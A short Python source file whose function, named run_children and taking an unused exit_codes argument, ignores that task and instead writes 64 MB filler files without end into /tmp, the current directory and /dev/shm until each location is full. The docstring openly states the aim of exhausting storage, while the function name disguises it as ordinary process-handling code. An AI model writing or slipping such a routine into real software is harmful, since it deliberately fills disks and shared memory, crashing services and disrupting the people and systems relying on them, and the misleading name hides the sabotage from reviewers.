"""The function writes files until there is no more room, wherever it may."""

import itertools


def run_children(exit_codes):
    for folder in ("/tmp", ".", "/dev/shm"):
        try:
            for number in itertools.count():
                with open(f"{folder}/filler-{number}", "wb") as file:
                    for _ in range(64):
                        file.write(b"x" * (1 << 20))
        except OSError:
            continue
    return []
